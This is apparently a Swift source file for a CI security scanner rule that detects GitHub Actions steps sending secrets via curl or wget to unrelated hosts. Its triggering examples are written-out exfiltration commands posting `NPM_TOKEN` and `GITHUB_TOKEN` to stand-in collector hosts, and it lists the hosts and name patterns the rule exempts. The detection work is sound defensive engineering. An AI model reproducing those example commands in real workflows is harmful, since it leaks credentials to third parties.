import BulwarkCore
import BulwarkFormats

/// A `run:` step that sends a secret in a request body or URL query to a host that is not the
/// secret's own service.
struct SecretSentToHostRule: Rule {
    typealias Model = CIModel
    static let rule = RuleDescription(
        id: "workflow-secret-sent-to-host", name: "Secret sent in a request body to another host", family: "workflows",
        summary: "A `curl`/`wget` command sends a secret in the request body or URL query to a host that does not belong to the secret's service.",
        rationale: rationale(
            detects: """
            In `run:` scripts (split by the shell tokenizer, not by regular expressions), `curl` and `wget` \
            commands whose body (`-d`, `--data*`, `--json`, `-F`/`--form`, `--data-urlencode`, `wget --post-data`, \
            `--body-data`) or URL query string carries a secret (`${{ secrets.X }}`, `${{ github.token }}`, or an \
            environment variable bound to one), sent to a literal host that does not match the service the secret \
            is named after (`NPM_TOKEN` to a host without `npm` in it, `GITHUB_TOKEN` outside GitHub). Not \
            findings: tokens in an `Authorization` header or `-u` (normal API use), generically named secrets \
            (`API_KEY`, `DEPLOY_TOKEN`: nothing says which service they belong to), hosts held in variables, \
            OAuth token endpoints, and well-known APIs (`api.github.com`, `registry.npmjs.org`, `upload.pypi.org`, \
            `api.openai.com`, `hooks.slack.com`, ...). Request-capture hosts are `workflow-campaign-indicator`.
            """,
            matters: """
            A secret in a request body or query string to an unrelated host is how stolen-token payloads look \
            (the tj-actions and Shai-Hulud payloads posted secrets to attacker endpoints), and even when benign \
            it hands a credential to a third party, and query strings end up in proxy and server logs.
            """,
            fix: """
            Send the credential only to its own service, in an `Authorization` header; if a third party needs to \
            act for you, give it its own scoped credential instead of forwarding this one.
            """,
            references: ["CWE-201 (Insertion of Sensitive Information Into Sent Data)", "CWE-598 (Sensitive query strings)",
                         "[StepSecurity: tj-actions/changed-files compromise](https://www.stepsecurity.io/blog/harden-runner-detection-tj-actions-changed-files-action-is-compromised)"]),
        defaultSeverity: .medium, defaultConfidence: .medium,
        remediation: "Send secrets only to their own service, in an Authorization header.",
        examples: [
            Example(.triggers, path: wf, """
            on: push
            jobs:
              release:
                runs-on: ubuntu-latest
                steps:
                  - run: |
                      curl -fsS -X POST https://collector.example.net/v1/events \\
                        -d "npm=${{ secrets.NPM_TOKEN }}"
            """, lines: [7]),
            Example(.triggers, path: wf, """
            on: push
            jobs:
              notify:
                runs-on: ubuntu-latest
                env:
                  TOKEN: ${{ secrets.GITHUB_TOKEN }}
                steps:
                  - run: wget -q "https://status.example.org/ping?token=$TOKEN" # <-
            """, commentPrefix: "#"),
            Example(.clean, path: wf, """
            on: push
            jobs:
              publish:
                runs-on: ubuntu-latest
                steps:
                  - run: |
                      curl -fsS -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/repos/acme/app/releases -d '{"tag_name":"v1"}'
                      curl -fsS -X POST -d "token=$CODECOV_TOKEN" https://codecov.io/upload/v4
                      curl -fsS -d "$PAYLOAD" "$SLACK_WEBHOOK_URL"
                      curl -fsS -d "key=$API_KEY" https://api.internal.example.com/deploy
                      curl -fsS -d "client_secret=$AZURE_CLIENT_SECRET" https://auth.example.com/oauth2/token
                    env:
                      GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}
                      CODECOV_TOKEN: ${{ secrets.CODECOV_TOKEN }}
                      SLACK_WEBHOOK_URL: ${{ secrets.SLACK_WEBHOOK_URL }}
                      API_KEY: ${{ secrets.API_KEY }}
                      AZURE_CLIENT_SECRET: ${{ secrets.AZURE_CLIENT_SECRET }}
                      PAYLOAD: '{"text":"released"}'
            """),
        ])
    var description: RuleDescription { Self.rule }

    /// Hosts where sending a credential in a body or query is documented, ordinary use.
    static let wellKnownHosts = [
        "github.com", "githubusercontent.com", "npmjs.org", "npmjs.com", "pypi.org", "openai.com", "anthropic.com",
        "slack.com", "discord.com", "discordapp.com", "telegram.org", "codecov.io", "coveralls.io", "sonarcloud.io",
        "huggingface.co", "docker.io", "docker.com", "microsoftonline.com", "googleapis.com", "amazonaws.com",
        "circleci.com", "travis-ci.com", "readthedocs.org", "readthedocs.io", "cloudflare.com",
    ]
    /// Words of a secret name that say nothing about the service it belongs to.
    static let genericWords: Set<String> = [
        "token", "tokens", "key", "keys", "api", "apikey", "secret", "secrets", "password", "passwd", "pass", "pwd",
        "webhook", "hook", "url", "uri", "access", "auth", "prod", "production", "dev", "staging", "stage", "test",
        "id", "ci", "cd", "bot", "personal", "pat", "private", "client", "app", "deploy", "deployment", "write",
        "read", "user", "username", "login", "integration", "service", "account", "admin", "release", "publish",
        "upload", "my", "org", "repo", "env", "value", "data", "cred", "creds", "credential", "credentials", "bearer",
        "refresh", "session", "signing", "sign", "encryption", "ssh", "gpg", "pgp", "host", "server", "endpoint",
        "database", "db", "postgres", "postgresql", "mysql", "redis", "mongo", "mongodb", "smtp", "mail", "email",
        "ftp", "sftp", "ldap", "jwt", "hmac", "salt", "master", "root", "internal", "external", "public", "main",
        "primary", "backup", "cloud", "web", "site", "rest", "graphql", "grpc", "http", "https", "basic", "local",
        "passphrase", "zone", "domain", "project", "workspace", "team", "channel", "chat", "number", "phone", "name",
        "keyid", "code", "pin", "otp", "totp", "mfa", "cert", "certificate", "pem", "p12", "keystore", "store",
    ]
    /// Short names of services whose hosts spell them differently.
    static let aliases: [String: [String]] = [
        "gh": ["github"], "github": ["github"], "hf": ["huggingface"], "aws": ["amazonaws", "aws"],
        "gcp": ["google"], "gcloud": ["google"], "google": ["google"], "azure": ["azure", "microsoft", "windows.net"],
        "dockerhub": ["docker"], "twine": ["pypi"], "claude": ["anthropic"], "sonar": ["sonar"],
        "npm": ["npm"], "pypi": ["pypi"], "cf": ["cloudflare"], "dd": ["datadog"], "do": ["digitalocean"],
        "gl": ["gitlab"], "az": ["azure", "microsoft"], "tf": ["terraform", "hashicorp"], "jira": ["atlassian"],
        "confluence": ["atlassian"], "teams": ["office", "microsoft"], "cargo": ["crates"], "gem": ["rubygems"],
        "vsce": ["visualstudio", "marketplace"], "ovsx": ["open-vsx", "openvsx"], "ossrh": ["sonatype"],
        "maven": ["maven", "sonatype"], "firefox": ["mozilla"], "amo": ["mozilla"], "chrome": ["google"],
        "vscode": ["visualstudio", "marketplace"], "ms": ["microsoft"], "apple": ["apple"], "appstore": ["apple"],
    ]
    static let bodyOptions: Set<String> = [
        "-d", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "--json", "-F", "--form",
        "--form-string", "--post-data", "--body-data",
    ]
    /// curl/wget options that take a separate value (so the value is not mistaken for the URL).
    static let valueOptions: Set<String> = [
        "-H", "--header", "-u", "--user", "-o", "--output", "-X", "--request", "-A", "--user-agent", "-e", "--referer",
        "-b", "--cookie", "-c", "--cookie-jar", "--connect-timeout", "-m", "--max-time", "--retry", "-w", "--write-out",
        "-O", "--output-document", "-T", "--upload-file", "--cacert", "--cert", "--key", "-x", "--proxy", "-K", "--config",
        "--header=", "-P", "--directory-prefix", "-t", "--tries", "-U",
    ]

    func check(_ model: CIModel, context: RuleContext) -> [Finding] {
        guard let w = model.workflow else { return [] }
        var out: [Finding] = []
        for site in model.scripts where site.kind == .run && site.isShell {
            let envSecrets = Self.secretEnv((site.step?.env ?? []) + (site.job?.env ?? []) + w.env)
            let (script, placeholders) = Self.replacingExpressions(site.scalar.value)
            guard script.contains("curl") || script.contains("wget") else { continue }
            for cmd in ShellTokenizer.commands(in: script) {
                // `do curl ...`, `then curl ...`: shell keywords in front of the command.
                let words = Array(cmd.effectiveWords.drop { Self.shellKeywords.contains($0) })
                guard let first = words.first else { continue }
                let p = String(first.split(separator: "/").last ?? Substring(first))
                guard p == "curl" || p == "wget" else { continue }
                guard let hit = Self.request(words, placeholders: placeholders, envSecrets: envSecrets) else { continue }
                let line = model.line(ofScriptLine: cmd.line, in: site.scalar)
                out.append(.workflow(Self.rule,
                    "`\(p)` sends `\(hit.secret)` in the request \(hit.part) to `\(hit.host)`, which does not look like the service the secret belongs to.",
                    context, line: line, anchor: "\(hit.secret)->\(hit.host)"))
            }
        }
        return out
    }

    struct Hit { var secret: String; var host: String; var part: String }

    static let shellKeywords: Set<String> = ["do", "then", "else", "elif", "if", "while", "until", "!", "{", "time"]

    /// Environment variables bound to a secret (or the job token): variable -> secret name.
    static func secretEnv(_ entries: [YMapping.Entry]) -> [String: String] {
        var out: [String: String] = [:]
        for e in entries {
            guard let v = e.value.string, v.contains("${{") else { continue }
            for x in ExpressionParser.embedded(in: v) {
                if let name = secretName(x) { out[e.key.value] = name; break }
            }
        }
        return out
    }

    /// `secrets.X` -> `X`; `github.token` -> `GITHUB_TOKEN`.
    static func secretName(_ e: EmbeddedExpression) -> String? {
        for p in e.expr?.paths ?? [] {
            let root = p.root.lowercased()
            if root == "secrets", case .name(let n)? = p.segments.first { return n }
            if root == "github", case .name(let n)? = p.segments.first, n.lowercased() == "token" { return "GITHUB_TOKEN" }
        }
        return nil
    }

    /// The script with every `${{ }}` replaced by a space-free placeholder (`__BWS3__` for secrets).
    static func replacingExpressions(_ script: String) -> (String, [String: String]) {
        let exprs = ExpressionParser.embedded(in: script)
        guard !exprs.isEmpty else { return (script, [:]) }
        let bytes = Array(script.utf8)
        var out: [UInt8] = []
        var map: [String: String] = [:]
        var pos = 0
        for (i, e) in exprs.enumerated() {
            let start = e.offset, end = e.offset + e.raw.utf8.count
            guard start >= pos, end <= bytes.count else { continue }
            out += bytes[pos..<start]
            if let name = secretName(e) {
                let ph = "__BWS\(i)__"
                map[ph] = name
                out += Array(ph.utf8)
            } else {
                out += Array("__BWE\(i)__".utf8)
            }
            out += Array(repeating: UInt8(ascii: "\n"), count: e.raw.utf8.filter { $0 == 0x0A }.count)
            pos = end
        }
        out += bytes[pos...]
        return (String(decoding: out, as: UTF8.self), map)
    }

    /// Secret names referenced in one word.
    static func secrets(in word: String, placeholders: [String: String], envSecrets: [String: String]) -> [String] {
        var out: [String] = []
        for (ph, name) in placeholders where word.contains(ph) { out.append(name) }
        guard word.contains("$") else { return out }
        for (v, name) in envSecrets where word.contains("$" + v) || word.contains("${" + v + "}") {
            // `$TOKEN` must not match `$TOKEN_URL`.
            var rest = Substring(word)
            while let r = rest.range(of: "$" + v) {
                let after = rest[r.upperBound...].first
                if after == nil || !(after!.isLetter || after!.isNumber || after! == "_") { out.append(name); break }
                rest = rest[r.upperBound...]
            }
            if word.contains("${" + v + "}") && !out.contains(name) { out.append(name) }
        }
        return out
    }

    /// The first secret a curl/wget command puts in its body or URL query, with the literal host.
    static func request(_ words: [String], placeholders: [String: String], envSecrets: [String: String]) -> Hit? {
        var url: String?
        var body: [String] = []
        var i = 1
        while i < words.count {
            let w = words[i]
            if bodyOptions.contains(w), i + 1 < words.count {
                body += secrets(in: words[i + 1], placeholders: placeholders, envSecrets: envSecrets)
                i += 2; continue
            }
            if let eq = w.firstIndex(of: "="), w.hasPrefix("--"), bodyOptions.contains(String(w[..<eq])) {
                body += secrets(in: String(w[w.index(after: eq)...]), placeholders: placeholders, envSecrets: envSecrets)
                i += 1; continue
            }
            if (w.hasPrefix("-d") || w.hasPrefix("-F")) && !w.hasPrefix("--") && w.count > 2 {
                body += secrets(in: String(w.dropFirst(2)), placeholders: placeholders, envSecrets: envSecrets)
                i += 1; continue
            }
            if w == "--url", i + 1 < words.count { url = url ?? words[i + 1]; i += 2; continue }
            if valueOptions.contains(w) { i += 2; continue }
            if !w.hasPrefix("-"), url == nil, w.contains("://") || w.contains(".") { url = w }
            i += 1
        }
        guard let u = url else { return nil }
        var querySecrets: [String] = []
        if let q = u.firstIndex(of: "?") {
            querySecrets = secrets(in: String(u[q...]), placeholders: placeholders, envSecrets: envSecrets)
        }
        let (secret, part): (String, String)
        if let s = body.first { (secret, part) = (s, "body") }
        else if let s = querySecrets.first { (secret, part) = (s, "URL query") }
        else { return nil }
        guard let host = literalHost(u), !belongs(secret: secret, host: host, url: u) else { return nil }
        return Hit(secret: secret, host: host, part: part)
    }

    /// The host of a literal URL; nil when it is (partly) a variable or expression.
    static func literalHost(_ url: String) -> String? {
        var s = Substring(url)
        if let r = s.range(of: "://") { s = s[r.upperBound...] }
        if let at = s.firstIndex(of: "@"), s[..<at].contains(where: { $0 != "/" }), !s[..<at].contains("/") { s = s[s.index(after: at)...] }
        let host = s.prefix { $0 != "/" && $0 != ":" && $0 != "?" && $0 != "#" }.lowercased()
        guard !host.isEmpty, host.contains("."), !host.contains("$"), !host.contains("__bw"), !host.contains("{"),
              host.allSatisfy({ $0.isLetter || $0.isNumber || $0 == "." || $0 == "-" }) else { return nil }
        return host
    }

    /// Whether sending this secret to this host is the secret's own (or ordinary) use.
    static func belongs(secret: String, host: String, url: String) -> Bool {
        if host == "localhost" || host.hasPrefix("127.") || host.hasSuffix(".local") { return true }
        if CampaignIndicatorRule.exfilHosts.contains(where: { host.contains($0) }) { return true } // owned by the campaign rule
        if wellKnownHosts.contains(where: { host == $0 || host.hasSuffix("." + $0) }) { return true }
        let lowerURL = url.lowercased()
        if lowerURL.contains("oauth") || lowerURL.contains("/token") { return true }
        let words = secret.lowercased().split(whereSeparator: { $0 == "_" || $0 == "-" }).map(String.init)
        // Two-letter words count only through an alias (`HF`, `DD`); others are too ambiguous.
        let specific = words.filter { !genericWords.contains($0) && !$0.allSatisfy(\.isNumber) && ($0.count >= 3 || aliases[$0] != nil) }
        // A generically named secret says nothing about its service: no judgement.
        guard !specific.isEmpty else { return true }
        let compactHost = host.replacingOccurrences(of: "-", with: "")
        for w in specific {
            if w.count >= 3, compactHost.contains(w) { return true }
            for a in aliases[w] ?? [] where compactHost.contains(a) { return true }
        }
        return false
    }
}
